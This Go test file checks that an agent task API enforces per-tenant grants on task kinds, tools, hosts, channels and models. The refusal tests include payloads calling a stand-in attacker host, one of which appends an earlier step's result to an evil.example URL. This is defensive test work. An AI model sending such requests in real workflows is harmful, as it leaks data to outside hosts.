package httpapi_test

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/agentledger/agentledger"
	"github.com/agentledger/agentledger/admit"
	"github.com/agentledger/agentledger/grants"
	"github.com/agentledger/agentledger/httpapi"
	"github.com/agentledger/agentledger/notify"
	"github.com/agentledger/agentledger/registry"
)

// lateGrants reads grants from a store set once the test database exists.
type lateGrants struct{ store *grants.Store }

func (l *lateGrants) For(ctx context.Context, tenant string) (*grants.Grant, error) {
	return l.store.For(ctx, tenant)
}

// grantedEnv is an API whose tenant acme has grant g, and acme's token.
func grantedEnv(t *testing.T, g *grants.Grant) (*env, string) {
	t.Helper()
	src := &lateGrants{}
	e := newEnv(t, httpapi.Config{Door: &admit.Door{Grants: src, Unserved: true}})
	src.store = grants.NewStore(e.db)
	token := e.tenant("acme")
	if err := src.store.Put(context.Background(), "acme", g); err != nil {
		t.Fatal(err)
	}
	return e, token
}

// A tenant may submit only the kinds its grant lists: another kind is a 403
// forbidden naming it, and nothing is queued.
func TestSubmitOutsideTheGrantIsForbidden(t *testing.T) {
	t.Parallel()
	e, token := grantedEnv(t, &grants.Grant{Kinds: []string{"echo"}})
	e.task(e.post("/v1/tasks", token, "k1", `{"kind":"echo"}`), http.StatusCreated)
	p := e.problem(e.post("/v1/tasks", token, "k2", `{"kind":"steps","payload":{"steps":[]}}`), http.StatusForbidden, "forbidden")
	if !strings.Contains(p.Detail, `tenant "acme" has no grant for kind "steps"`) {
		t.Errorf("detail %q", p.Detail)
	}
	if n := e.count(`SELECT count(*) FROM tasks WHERE kind = 'steps'`); n != 0 {
		t.Errorf("%d steps tasks queued", n)
	}
}

// A tenant's replay of a task whose kind its grant no longer allows is a
// 403 naming the kind, and leaves the task as it is: a kind revoked takes
// back the tenant's right to have tasks of it run, through a replay too.
// The 403 is not kept under the key: granted again, the same key replays.
func TestReplayOfARevokedKindIsForbidden(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	e, token := grantedEnv(t, &grants.Grant{Kinds: []string{"echo"}})
	v := e.task(e.post("/v1/tasks", token, "k1", `{"kind":"echo"}`), http.StatusCreated)
	if _, err := e.db.Exec(ctx, `UPDATE tasks SET state = 'dead', finished_at = now() WHERE id = $1`, v.ID); err != nil {
		t.Fatal(err)
	}
	if _, err := grants.NewStore(e.db).Update(ctx, "acme", func(g *grants.Grant) { g.Kinds = nil }); err != nil {
		t.Fatal(err)
	}
	p := e.problem(e.post(fmt.Sprintf("/v1/tasks/%d/replay", v.ID), token, "r1", ""), http.StatusForbidden, "forbidden")
	if !strings.Contains(p.Detail, `tenant "acme" has no grant for kind "echo"`) {
		t.Errorf("detail %q", p.Detail)
	}
	if n := e.count(`SELECT count(*) FROM tasks WHERE state = 'dead'`); n != 1 {
		t.Errorf("%d dead tasks, want the task left as it was", n)
	}
	if _, err := grants.NewStore(e.db).Update(ctx, "acme", func(g *grants.Grant) { g.Kinds = []string{"echo"} }); err != nil {
		t.Fatal(err)
	}
	e.task(e.post(fmt.Sprintf("/v1/tasks/%d/replay", v.ID), token, "r1", ""), http.StatusAccepted)
	// A key that answered replays its answer, whatever the grant says since.
	if _, err := grants.NewStore(e.db).Update(ctx, "acme", func(g *grants.Grant) { g.Kinds = nil }); err != nil {
		t.Fatal(err)
	}
	again := e.post(fmt.Sprintf("/v1/tasks/%d/replay", v.ID), token, "r1", "")
	e.task(again, http.StatusAccepted)
	if !again.replayed() {
		t.Errorf("the same key after a revoke: not its stored answer replayed")
	}
}

// No queue jumping through the API: a run_at in the past becomes now, and a
// priority more urgent than the tenant's floor is raised to it.
func TestSubmitCannotJumpTheQueue(t *testing.T) {
	t.Parallel()
	e, token := grantedEnv(t, &grants.Grant{Kinds: []string{"echo"}, PriorityFloor: 50})
	before := time.Now().Add(-time.Second) // the database's clock may trail ours a little
	task := e.task(e.post("/v1/tasks", token, "k1", `{"kind":"echo","priority":0,"run_at":"2001-01-01T00:00:00Z"}`), http.StatusCreated)
	if task.Priority != 50 || task.RunAt.Before(before) {
		t.Errorf("priority %d run_at %s: want 50 and now", task.Priority, task.RunAt)
	}
	later := time.Now().Add(time.Hour).UTC().Truncate(time.Second)
	task = e.task(e.post("/v1/tasks", token, "k2", `{"kind":"echo","priority":70,"run_at":"`+later.Format(time.RFC3339)+`"}`), http.StatusCreated)
	if task.Priority != 70 || !task.RunAt.Equal(later) {
		t.Errorf("priority %d run_at %s: want 70 and %s as asked", task.Priority, task.RunAt, later)
	}
}

// POST /v1/tasks refuses with 403, as agentd wires package admit, whatever
// a payload names literally outside the tenant's grant — a steps task's
// tools (a compensation's too), hosts, channels and child kinds, an agent
// task's tools and model — with allow_unserved too; it stores nothing, not
// even the Idempotency-Key, which the corrected request may then use. What
// only the run knows (a URL made of an earlier result) is left to it.
func TestSubmitRefusesWhatThePayloadNamesOutsideTheGrant(t *testing.T) {
	t.Parallel()
	e, src := newAdmittingEnv(t, "house-model")
	token := e.tenant("acme")
	if err := src.store.Put(context.Background(), "acme", &grants.Grant{Kinds: []string{"steps", "agent", "echo"},
		Tools: []string{"http_request", "notify", "create_task"}, Hosts: []grants.Host{{URL: "https://api.example.com"}},
		Channels: []string{"ops"}, Models: []string{"*"}}); err != nil {
		t.Fatal(err)
	}
	submit := func(kind, payload string) string {
		return `{"kind":"` + kind + `","allow_unserved":true,"payload":` + payload + `}`
	}
	steps := func(list string) string { return submit("steps", `{"steps":[`+list+`]}`) }
	for body, detail := range map[string]string{
		steps(`{"tool":"notify","args":{"channel":"ops","text":"x"}},{"tool":"unsafe_http","args":{"method":"GET","url":"https://api.example.com/"}}`):                                                               `payload: step 1: tenant "acme" has no grant for tool "unsafe_http"`,
		steps(`{"tool":"http_request","args":{"method":"GET","url":"https://evil.example/x"}}`):                                                                                                                      `payload: step 0: tenant "acme" has no grant for host https://evil.example:443`,
		steps(`{"tool":"http_request","args":{"method":"GET","url":"http://api.example.com/x"}}`):                                                                                                                    `has no grant for host http://api.example.com:80`,
		steps(`{"tool":"notify","args":{"channel":"ceo","text":"x"}}`):                                                                                                                                               `payload: step 0: tenant "acme" has no grant for channel "ceo"`,
		steps(`{"tool":"create_task","args":{"kind":"sleep"}}`):                                                                                                                                                      `payload: step 0: tenant "acme" has no grant for kind "sleep"`,
		steps(`{"tool":"http_request","args":{"method":"POST","url":"https://api.example.com/c"},"compensate":{"tool":"unsafe_http","args":{"method":"DELETE","url":"https://api.example.com/c/${self.body.id}"}}}`): `payload: step 0's compensation: tenant "acme" has no grant for tool "unsafe_http"`,
		submit("agent", `{"prompt":"hi","tools":["notify","unsafe_http"]}`):                                                                                                                                          `payload: tools[1]: tenant "acme" has no grant for tool "unsafe_http"`,
		submit("agent", `{"prompt":"hi","model":"expensive-model"}`):                                                                                                                                                 `payload: model: tenant "acme" has no grant for model "expensive-model"`,
		// A URL made of a result, its origin written before it.
		steps(`{"tool":"http_request","args":{"method":"GET","url":"https://api.example.com/"}},{"tool":"http_request","args":{"method":"GET","url":"https://evil.example/x?q=${steps.0.body.id}"}}`): `payload: step 1: tenant "acme" has no grant for host https://evil.example:443`,
		// A literal child's payload, against the same grant.
		steps(`{"tool":"create_task","args":{"kind":"steps","payload":{"steps":[{"tool":"notify","args":{"channel":"ops","text":"x"}},{"tool":"unsafe_http","args":{"method":"GET","url":"https://api.example.com/"}}]}}}`): `payload: step 0's child: step 1: tenant "acme" has no grant for tool "unsafe_http"`,
		steps(`{"tool":"create_task","args":{"kind":"agent","payload":{"prompt":"hi","tools":["notify","unsafe_http"]}}}`):                                                                                                  `payload: step 0's child: tools[1]: tenant "acme" has no grant for tool "unsafe_http"`,
	} {
		p := e.problem(e.post("/v1/tasks", token, "k1", body), http.StatusForbidden, "forbidden")
		if !strings.Contains(p.Detail, detail) {
			t.Errorf("%s: detail %q, want %q", body, p.Detail, detail)
		}
	}
	if n := e.count(`SELECT (SELECT count(*) FROM tasks) + (SELECT count(*) FROM idempotency_keys)`); n != 0 {
		t.Fatalf("%d tasks and keys stored for refused requests", n)
	}
	for i, body := range []string{
		steps(`{"tool":"http_request","args":{"method":"GET","url":"https://API.example.com:443/x"}},` +
			`{"tool":"http_request","args":{"method":"GET","url":"${steps.0.body.next}"}},` +
			`{"tool":"notify","args":{"channel":"${steps.0.body.channel}","text":"x"}},` +
			`{"tool":"create_task","args":{"kind":"echo"}},` +
			`{"tool":"http_request","args":{"method":"GET","url":"https://${steps.0.body.host}/x"}},` +
			`{"tool":"http_request","args":{"method":"GET","url":"https://api.${steps.0.body.domain}/x"}},` +
			`{"tool":"http_request","args":{"method":"GET","url":"https://api.example.com/x?q=${steps.0.body.id}"}},` +
			`{"tool":"create_task","args":{"kind":"steps","payload":{"steps":[{"tool":"notify","args":{"channel":"ops","text":"x"}}]}}},` +
			`{"tool":"create_task","args":{"kind":"steps","payload":{"steps":[{"tool":"unsafe_http","args":{"url":"${steps.0.body.next}"}}]}}}`),
		submit("agent", `{"prompt":"hi","tools":["notify"]}`),
		submit("agent", `{"prompt":"hi","model":"house-model"}`),
	} {
		e.task(e.post("/v1/tasks", token, "k"+strconv.Itoa(i+1), body), http.StatusCreated)
	}
}

// An API daemon configured with no model does not know the workers': a
// model is refused at submit only when no configured model could make it
// granted (no model granted, or one named that is not granted by name
// under a grant without "*"); the run checks the rest on its worker.
func TestSubmitWithNoConfiguredModelRefusesOnlyWhatIsCertain(t *testing.T) {
	t.Parallel()
	e, src := newAdmittingEnv(t, "")
	tokens := map[string]string{}
	for tenant, models := range map[string][]string{"star": {"*"}, "named": {"small"}, "none": nil} {
		tokens[tenant] = e.tenant(tenant)
		if err := src.store.Put(context.Background(), tenant, &grants.Grant{Kinds: []string{"agent", "steps"},
			Tools: []string{"create_task"}, Models: models}); err != nil {
			t.Fatal(err)
		}
	}
	submit := func(payload string) string { return `{"kind":"agent","allow_unserved":true,"payload":` + payload + `}` }
	for i, tc := range []struct{ tenant, body string }{
		{"star", submit(`{"prompt":"hi","model":"workers-model"}`)},
		{"star", submit(`{"prompt":"hi"}`)},
		{"named", submit(`{"prompt":"hi","model":"small"}`)},
		{"named", submit(`{"prompt":"hi"}`)},
		{"star", `{"kind":"steps","allow_unserved":true,"payload":{"steps":[{"tool":"create_task","args":{"kind":"agent","payload":{"prompt":"hi","model":"workers-model"}}}]}}`},
	} {
		e.task(e.post("/v1/tasks", tokens[tc.tenant], "ok"+strconv.Itoa(i), tc.body), http.StatusCreated)
	}
	for i, tc := range []struct{ tenant, body, detail string }{
		{"none", submit(`{"prompt":"hi"}`), `payload: model: tenant "none" has no grant for model calls`},
		{"none", submit(`{"prompt":"hi","model":"workers-model"}`), `payload: model: tenant "none" has no grant for model calls`},
		{"named", submit(`{"prompt":"hi","model":"big"}`), `payload: model: tenant "named" has no grant for model "big"`},
		{"none", `{"kind":"steps","allow_unserved":true,"payload":{"steps":[{"tool":"create_task","args":{"kind":"agent","payload":{"prompt":"hi"}}}]}}`,
			`payload: step 0's child: model: tenant "none" has no grant for model calls`},
	} {
		p := e.problem(e.post("/v1/tasks", tokens[tc.tenant], "no"+strconv.Itoa(i), tc.body), http.StatusForbidden, "forbidden")
		if !strings.Contains(p.Detail, tc.detail) {
			t.Errorf("%s: %s: detail %q, want %q", tc.tenant, tc.body, p.Detail, tc.detail)
		}
	}
}

// newAdmittingEnv is an API whose submissions go through the door with
// the tenants' stored grants and model as the API daemon's configured
// model.
func newAdmittingEnv(t *testing.T, model string) (*env, *lateGrants) {
	t.Helper()
	src := &lateGrants{}
	e := newEnv(t, httpapi.Config{Door: &admit.Door{Grants: src, Model: model}})
	src.store = grants.NewStore(e.db)
	return e, src
}

// A tool the grant lacks that no live worker has is refused as unknown
// (422, naming the known tools the grant allows, none outside it), not as
// a grant to add: granting a misspelt tool would not make it exist. A
// known tool the grant lacks stays a 403.
func TestSubmitNamesAnUnknownToolBeforeTheGrant(t *testing.T) {
	t.Parallel()
	e, src := newAdmittingEnv(t, "")
	token := e.tenant("acme")
	if err := src.store.Put(context.Background(), "acme", &grants.Grant{Kinds: []string{"steps", "agent"}, Tools: []string{"notify", "shop/*"},
		Channels: []string{"ops"}, Models: []string{"*"}}); err != nil {
		t.Fatal(err)
	}
	if err := registry.New(e.db).Register(context.Background(), registry.Registration{ID: "d1", Host: "h", PID: 1,
		Queues: []string{"default"}, Kinds: []string{"steps", "agent"}, Tools: map[string]json.RawMessage{
			"notify": notify.NewTool().Parameters(), "http_request": nil, "shop/refund": nil, "billing/refund_everything": nil},
		MCPServers: map[string]string{"shop": "connected"}}); err != nil {
		t.Fatal(err)
	}
	// An agent's tools alike: one no worker has, a connected MCP server's
	// tool it does not offer, whether or not the grant allows them.
	for i, tool := range []string{"nope", "shop/nope"} {
		p := e.problem(e.post("/v1/tasks", token, fmt.Sprintf("a%d", i), `{"kind":"agent","payload":{"prompt":"x","tools":["`+tool+`"]}}`),
			http.StatusUnprocessableEntity, string(agentledger.CodeInvalid))
		if !strings.Contains(p.Detail, `tools[0]: unknown tool "`+tool+`" (known: notify, shop/refund)`) {
			t.Errorf("an agent's tool %s: %q", tool, p.Detail)
		}
	}
	// A tool the grant allows (by its pattern) that no worker has: the
	// refusal names the known tools the grant allows, none outside it.
	p := e.problem(e.post("/v1/tasks", token, "k0", `{"kind":"steps","payload":{"steps":[{"tool":"shop/void","args":{}}]}}`),
		http.StatusUnprocessableEntity, string(agentledger.CodeInvalid))
	if !strings.Contains(p.Detail, `unknown tool "shop/void" (known: notify, shop/refund)`) {
		t.Errorf("a granted tool no worker has: %q", p.Detail)
	}
	p = e.problem(e.post("/v1/tasks", token, "k1", `{"kind":"steps","payload":{"steps":[{"tool":"notfy","args":{"channel":"ops","text":"x"}}]}}`),
		http.StatusUnprocessableEntity, string(agentledger.CodeInvalid))
	if !strings.Contains(p.Detail, `step 0: unknown tool "notfy" (known: notify, shop/refund)`) || strings.Contains(p.Detail, "grant") ||
		strings.Contains(p.Detail, "http_request") {
		t.Errorf("a misspelt tool: %q", p.Detail)
	}
	p = e.problem(e.post("/v1/tasks", token, "k2", `{"kind":"steps","payload":{"steps":[{"tool":"http_request","args":{"method":"GET","url":"https://a.example/"}}]}}`),
		http.StatusForbidden, "forbidden")
	if !strings.Contains(p.Detail, `tenant "acme" has no grant for tool "http_request"`) {
		t.Errorf("a known tool outside the grant: %q", p.Detail)
	}
	if n := e.count(`SELECT count(*) FROM tasks`); n != 0 {
		t.Fatalf("%d tasks queued by refused requests", n)
	}
}
